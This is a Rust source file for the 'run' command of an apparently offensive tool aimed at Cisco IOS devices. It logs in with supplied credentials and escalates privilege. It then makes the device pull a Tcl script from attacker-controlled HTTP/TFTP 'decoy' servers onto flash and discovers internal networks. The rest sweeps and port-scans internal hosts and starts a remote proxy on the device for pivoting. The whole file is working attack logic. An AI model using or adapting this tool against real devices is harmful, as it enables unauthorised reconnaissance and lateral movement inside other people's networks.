//! `run`: validate the options, provision decoys, then drive the device.

use std::fmt;
use std::net::Ipv4Addr;
use std::path::PathBuf;

use async_trait::async_trait;
use indexmap::IndexSet;
use iosrecon::channel::ShellChannel;
use iosrecon::display::DisplaySink;
use iosrecon::options::OptionRegistry;
use iosrecon::recon::{self, Network, PortSpec, Protocol};
use iosrecon::{DeviceSession, SessionBuilder, transfer};
use log::{debug, info, warn};
use tokio::task::JoinHandle;
use thiserror::Error;

use super::{CommandContext, CommandHandler};
use crate::provision::{ProvisionRequest, Provisioner};

/// Largest block handed to a single ping sweep.
const SWEEP_PREFIX: u8 = 24;

/// The only port `copy tftp://` can reach.
const TFTP_PORT: u16 = 69;

/// Options that must be set before connecting.
const REQUIRED: &[&str] = &["host", "username", "password", "secret"];

/// Problems found before anything is contacted.
#[derive(Debug, Error, PartialEq, Eq)]
pub enum PlanError {
    #[error("Required target options are missing: {}", .0.join(", "))]
    MissingOptions(Vec<String>),

    #[error("The {label} address '{value}' is not a valid IP address.")]
    InvalidAddress { label: &'static str, value: String },

    #[error("The {label} port {value} is out of range. (1-65535).")]
    PortOutOfRange { label: &'static str, value: String },

    #[error("Invalid port list for {option}: '{value}'")]
    InvalidPorts { option: &'static str, value: String },
}

/// Failures after the session is up.
#[derive(Debug, Error)]
enum RunError {
    #[error(transparent)]
    Device(#[from] iosrecon::Error),

    #[error("{0} is not on flash and could not be fetched from any TFTP endpoint")]
    MissingScript(String),

    #[error("The target device does not support Tcl scripting")]
    NoScripting,
}

/// Payload service scheme.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum Scheme {
    Http,
    Tftp,
}

impl fmt::Display for Scheme {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            Scheme::Http => write!(f, "http"),
            Scheme::Tftp => write!(f, "tftp"),
        }
    }
}

/// A payload service the device can fetch from.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub struct Endpoint {
    pub scheme: Scheme,
    pub host: Ipv4Addr,
    pub port: u16,
}

impl fmt::Display for Endpoint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}://{}:{}/", self.scheme, self.host, self.port)
    }
}

/// A validated `run` invocation.
#[derive(Debug, Clone)]
pub struct RunPlan {
    pub host: Ipv4Addr,
    pub provisions: Vec<ProvisionRequest>,
    pub endpoints: IndexSet<Endpoint>,
    pub tcp_ports: Option<PortSpec>,
    pub udp_ports: Option<PortSpec>,
    pub proxy_port: Option<u16>,
}

impl RunPlan {
    /// Check the options and work out what `run` will do.
    pub fn from_options(options: &OptionRegistry) -> Result<Self, PlanError> {
        let missing: Vec<String> = REQUIRED
            .iter()
            .filter(|key| options.value(key).is_empty())
            .map(|key| key.to_string())
            .collect();
        if !missing.is_empty() {
            return Err(PlanError::MissingOptions(missing));
        }

        let host = parse_address("host", options.value("host"))?;
        let mut plan = Self {
            host,
            provisions: Vec::new(),
            endpoints: IndexSet::new(),
            tcp_ports: parse_ports("scan_tcp_ports", options.value("scan_tcp_ports"))?,
            udp_ports: parse_ports("scan_udp_ports", options.value("scan_udp_ports"))?,
            proxy_port: None,
        };

        if !options.value("proxy_port").is_empty() {
            plan.proxy_port = Some(parse_port("proxy", options.value("proxy_port"))?);
        }

        if options.flag("enable_docker") {
            let docker_host = parse_address("docker host", options.value("docker_host"))?;
            let context = match options.value("docker_context") {
                "" => PathBuf::from("docker/services"),
                path => PathBuf::from(path),
            };

            if options.flag("enable_http") {
                let port = parse_port("HTTP", options.value("enable_http_port"))?;
                plan.provisions.push(ProvisionRequest {
                    tag: "decoy_http".to_string(),
                    context: context.join("http"),
                    ports: vec![("8000/tcp".to_string(), port)],
                });
                plan.add_endpoint(Scheme::Http, docker_host, port);
            }
            if options.flag("enable_tftp") {
                let port = parse_port("Trivial FTP", options.value("enable_tftp_port"))?;
                plan.provisions.push(ProvisionRequest {
                    tag: "decoy_tftp".to_string(),
                    context: context.join("tftp"),
                    ports: vec![("9069/udp".to_string(), port)],
                });
                plan.add_endpoint(Scheme::Tftp, docker_host, port);
            }
        }

        if options.flag("enable_remote") {
            let remote_host = parse_address("remote host", options.value("remote_host"))?;
            if options.flag("enable_remote_http") {
                let port = parse_port("HTTP", options.value("enable_remote_http_port"))?;
                plan.add_endpoint(Scheme::Http, remote_host, port);
            }
            if options.flag("enable_remote_tftp") {
                let port = parse_port("Trivial FTP", options.value("enable_remote_tftp_port"))?;
                plan.add_endpoint(Scheme::Tftp, remote_host, port);
            }
        }

        Ok(plan)
    }

    fn add_endpoint(&mut self, scheme: Scheme, host: Ipv4Addr, port: u16) {
        self.endpoints.insert(Endpoint { scheme, host, port });
    }

    /// TFTP servers the device can copy from, in the order they were
    /// configured. IOS cannot name a TFTP port, so only port 69 qualifies.
    pub fn tftp_servers(&self) -> impl Iterator<Item = Ipv4Addr> + '_ {
        self.tftp_endpoints()
            .filter(|e| e.port == TFTP_PORT)
            .map(|e| e.host)
    }

    /// TFTP endpoints on a port the device's copy command cannot reach.
    pub fn unreachable_tftp(&self) -> impl Iterator<Item = &Endpoint> + '_ {
        self.tftp_endpoints().filter(|e| e.port != TFTP_PORT)
    }

    fn tftp_endpoints(&self) -> impl Iterator<Item = &Endpoint> + '_ {
        self.endpoints.iter().filter(|e| e.scheme == Scheme::Tftp)
    }
}

fn parse_address(label: &'static str, value: &str) -> Result<Ipv4Addr, PlanError> {
    value.trim().parse().map_err(|_| PlanError::InvalidAddress {
        label,
        value: value.to_string(),
    })
}

fn parse_port(label: &'static str, value: &str) -> Result<u16, PlanError> {
    match value.trim().parse::<u32>() {
        Ok(port @ 1..=65535) => Ok(port as u16),
        _ => Err(PlanError::PortOutOfRange {
            label,
            value: value.to_string(),
        }),
    }
}

fn parse_ports(option: &'static str, value: &str) -> Result<Option<PortSpec>, PlanError> {
    if value.trim().is_empty() {
        return Ok(None);
    }
    value
        .parse()
        .map(Some)
        .map_err(|_| PlanError::InvalidPorts {
            option,
            value: value.to_string(),
        })
}

/// The `run` command.
#[derive(Default)]
pub struct RunCommand {
    provisioner: Provisioner,
}

#[async_trait]
impl CommandHandler for RunCommand {
    async fn handle(&self, _args: &str, ctx: &mut CommandContext<'_>) {
        let plan = match RunPlan::from_options(ctx.options) {
            Ok(plan) => plan,
            Err(e) => {
                ctx.display.error(e.to_string());
                return;
            }
        };

        let provisioning: Vec<_> = plan
            .provisions
            .iter()
            .map(|request| self.provisioner.spawn(request.clone(), ctx.display.clone()))
            .collect();
        for endpoint in &plan.endpoints {
            ctx.display.plain(format!("Payload endpoint: {}", endpoint));
        }
        for endpoint in plan.unreachable_tftp() {
            ctx.display.error(format!(
                "Skipping {}: the device only copies over TFTP from port {}",
                endpoint, TFTP_PORT
            ));
        }

        // Decoys must be up before the device fetches payloads from them.
        let mut shutdown = ctx.shutdown.clone();
        tokio::select! {
            _ = shutdown.cancelled() => return,
            _ = await_provisioning(provisioning) => {}
        }

        let builder = match SessionBuilder::from_options(ctx.options) {
            Ok(builder) => builder.shutdown(ctx.shutdown.clone()),
            Err(e) => {
                ctx.display.error(e.to_string());
                return;
            }
        };

        ctx.display
            .emphasis(format!("Attempting connection to the target device '{}'", plan.host));
        let mut session = match builder.connect().await {
            Ok(session) => session,
            Err(e) => {
                ctx.display.error(e.to_string());
                return;
            }
        };
        ctx.display
            .success(format!("Successfully connected to the target device '{}'", plan.host));

        if let Err(e) = engage(&plan, &mut session, ctx.display).await {
            ctx.display.error(e.to_string());
        }
        if let Err(e) = session.close().await {
            debug!("run: close failed: {}", e);
        }
    }
}

async fn await_provisioning(handles: Vec<JoinHandle<()>>) {
    for handle in handles {
        if let Err(e) = handle.await {
            warn!("run: provisioning task failed: {}", e);
        }
    }
}

/// Everything `run` does on a connected device.
async fn engage<C: ShellChannel>(
    plan: &RunPlan,
    session: &mut DeviceSession<C>,
    display: &DisplaySink,
) -> Result<(), RunError> {
    session.escalate_privilege().await?;
    display.success("Privileged EXEC mode acquired");

    let version = session.show_version().await?;
    if let Some(line) = version.lines().find(|l| !l.trim().is_empty()) {
        display.emphasis(line.trim().to_string());
    }

    if !session.check_scripting_support().await? {
        return Err(RunError::NoScripting);
    }

    let mapper = session.platform().scripts.mapper.clone();
    ensure_script(plan, session, display, &mapper).await?;

    let networks = recon::discover_networks(session).await?;
    if networks.is_empty() {
        display.plain("No target networks found in the running configuration");
        return Ok(());
    }
    let mut blocks: Vec<Network> = Vec::new();
    for network in &networks {
        display.plain(format!("Discovered network {}", network));
        blocks.extend(network.chunks(SWEEP_PREFIX).map_err(iosrecon::Error::from)?);
    }

    let sweep = recon::sweep_networks(session, &blocks).await;
    for host in &sweep.found {
        display.success(format!("Host {} is up", host));
    }
    let hosts: Vec<Ipv4Addr> = sweep.found.iter().copied().collect();
    if let Some(e) = sweep.error {
        return Err(e.into());
    }
    info!("run: {} live hosts", hosts.len());

    for (ports, protocol) in [(&plan.tcp_ports, Protocol::Tcp), (&plan.udp_ports, Protocol::Udp)] {
        let Some(ports) = ports else { continue };
        let scan = recon::scan_hosts(session, &hosts, ports, protocol).await;
        for port in &scan.found {
            display.success(format!("{} open", port));
        }
        if let Some(e) = scan.error {
            return Err(e.into());
        }
    }

    if let Some(port) = plan.proxy_port {
        let proxy = session.platform().scripts.proxy.clone();
        ensure_script(plan, session, display, &proxy).await?;
        if transfer::activate_remote_proxy(session, port).await? {
            display.success(format!("Remote proxy listening on port {}", port));
        } else {
            display.error(format!("Remote proxy failed to start on port {}", port));
        }
    }

    Ok(())
}

/// Make sure `script` is on flash, fetching it over TFTP when it is not.
async fn ensure_script<C: ShellChannel>(
    plan: &RunPlan,
    session: &mut DeviceSession<C>,
    display: &DisplaySink,
    script: &str,
) -> Result<(), RunError> {
    let filename = script.rsplit(['/', ':']).next().unwrap_or(script);
    if transfer::verify_file_present(session, filename).await? {
        return Ok(());
    }

    for server in plan.tftp_servers() {
        display.emphasis(format!("Copying {} from tftp://{}", filename, server));
        if transfer::download_via_tftp(session, &server.to_string(), filename).await?
            && transfer::verify_file_present(session, filename).await?
        {
            display.success(format!("{} copied to flash", filename));
            return Ok(());
        }
    }
    Err(RunError::MissingScript(filename.to_string()))
}
